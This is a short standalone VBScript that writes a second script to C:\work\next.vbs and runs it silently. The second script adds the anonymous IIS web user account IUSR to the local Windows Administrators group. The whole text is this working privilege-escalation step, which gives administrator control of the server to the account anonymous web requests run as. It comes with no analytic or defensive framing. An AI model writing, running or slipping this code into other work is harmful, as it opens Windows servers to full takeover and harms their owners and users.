Set fso = CreateObject("Scripting.FileSystemObject")
Set f = fso.CreateTextFile("C:\work\next.vbs", True)
f.Write "GetObject(""WinNT://./Administrators,group"").Add ""WinNT://NT AUTHORITY/IUSR"""
CreateObject("WScript.Shell").Run "wscript //b C:\work\next.vbs"
